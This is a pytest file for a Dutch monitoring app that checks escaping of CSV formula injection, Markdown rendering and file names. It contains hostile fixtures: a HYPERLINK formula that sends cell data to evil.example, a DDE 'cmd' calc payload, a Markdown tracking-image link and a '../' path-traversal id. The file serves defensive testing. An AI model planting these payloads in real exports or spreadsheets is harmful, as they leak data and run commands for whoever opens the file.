"""Exports and rendering (issue 9): formula cells neutralised in every CSV and report export (numbers stay
numbers), case texts and ids shown as text and never as Markdown, and no raw case id in a file name."""

from __future__ import annotations

import pandas as pd
import plotly.graph_objects as go
import pytest

from etl import load
from monitor import report, report_export
from monitor.export_safety import escape_markdown, filename_part, neutralise, safe_frame
from tests.conftest import open_page
from tests.tables_walk import download_files, record_media
from tests.test_report import FRESHNESS, LOAD_LOG, SOURCE_LINES, make_inputs

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"klik")'
MARKDOWN = "Zie [het dossier](https://evil.example/x) ![](https://track.example/p.gif) **dringend**"
NASTY_ID = '../X-9 "=1+1"'


# 1. The function


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12,5", "-12,5"),  # a number written as text is no formula
        ("+3 %", "+3 %"),
        ("gewone tekst", "gewone tekst"),
        (-4.5, -4.5),
        (None, None),
    ],
)
def test_neutralise_follows_owasp_and_keeps_numbers(value, expected):
    assert neutralise(value) == expected


def test_safe_frame_touches_text_only():
    frame = pd.DataFrame({"tekst": ["=1+1", "ok"], "getal": [-1.5, 2.0], "geheel": [-3, 4]})
    out = safe_frame(frame)
    assert out["tekst"].tolist() == ["'=1+1", "ok"]
    pd.testing.assert_series_equal(out["getal"], frame["getal"])
    pd.testing.assert_series_equal(out["geheel"], frame["geheel"])
    assert frame["tekst"].tolist() == ["=1+1", "ok"]  # the input is untouched
    text = out.to_csv(index=False, sep=";", decimal=",")
    assert "'=1+1;-1,5;-3" in text


def test_markdown_escape_and_file_name_part():
    assert "](" not in escape_markdown(MARKDOWN) and "![" not in escape_markdown(MARKDOWN)
    assert filename_part(NASTY_ID) == "X-9_1_1"
    assert filename_part("T-001") == "T-001"


# 2. Report exports


def test_report_exports_neutralise_formulas_from_file_names():
    log = LOAD_LOG.copy()
    log.loc[log.index[-1], "source_file"] = "=cmd|' /C calc'!A0.csv"
    version = report_export.data_version(log, FRESHNESS)
    built = report.build(make_inputs())
    table = report_export.figures_table(built.figures, SOURCE_LINES)
    csv = safe_frame(report_export.csv_frame(table, version, {"Jaar": "2024"})).to_csv(index=False, sep=";")
    cells = [cell for line in csv.splitlines() for cell in line.split(";")]
    assert "sha256 =cmd|' /C calc'!A0.csv" in cells  # the name is inside a cell, not at its start
    assert not [cell for cell in cells if cell.startswith(("=", "@", "+", "\t", "\r"))]
    text = report_export.markdown(built, "Kerncijfers", {}, SOURCE_LINES, version)
    assert "| '=cmd" in text and "| =cmd" not in text
    page = report_export.html_report(built, "T", {}, SOURCE_LINES, version, [("G", go.Figure(go.Bar(x=[1], y=[2])), "x")])
    assert "<td>'=cmd" in page and "<td>=cmd" not in page


# 3. The running app: the Casussen page with hostile case texts


@pytest.fixture
def media(monkeypatch):
    return record_media(monkeypatch)


@pytest.fixture
def hostile_db(scratch_db, monkeypatch, tmp_path):
    cases = tmp_path / "vijandig.csv"
    frame = pd.DataFrame(
        [
            (NASTY_ID, "Nobian Chemicals B.V.", "NL_106", MARKDOWN),
            ("U-FORMULE", "Nobian Chemicals B.V.", "NL_106", FORMULA),
        ],
        columns=["case_id", "company", "installation_id", "description"],
    ).assign(
        province="Overijssel",
        sector="chemie",
        route="elektrificatie",
        bottleneck="netcongestie",
        status="aangemeld",
        opened_on="01-03-2024",
    )
    frame.to_csv(cases, sep=";", index=False)
    load.load_file("cases", cases, scratch_db)
    monkeypatch.setenv("C6_DB", str(scratch_db))
    return scratch_db


def test_case_texts_are_shown_as_text_and_downloads_hold_no_formula(hostile_db, media):
    at = open_page("pages/casussen.py")
    at.selectbox(key="cases_detail").set_value(NASTY_ID).run()
    assert not at.exception
    markdown = "\n".join(m.value for m in at.markdown) + "\n".join(c.value for c in at.caption)
    assert "](https://evil.example" not in markdown and "![](" not in markdown
    assert MARKDOWN in [t.value for t in at.text]  # the description, as plain text
    assert escape_markdown(NASTY_ID) in markdown  # the id, escaped in the heading
    files = {
        key: (name, content.decode("utf-8-sig", errors="replace")) for key, (name, content) in download_files(at, media).items()
    }
    table = next(text for key, (name, text) in files.items() if name == "casussen.csv")  # the table with descriptions
    assert "'=HYPERLINK(" in table
    assert ";=HYPERLINK" not in table and ';"=HYPERLINK' not in table
    names = [name for name, _ in files.values()]
    assert "casus_X-9_1_1_historie.csv" in names and not [n for n in names if "../" in n or "=1+1" in n]
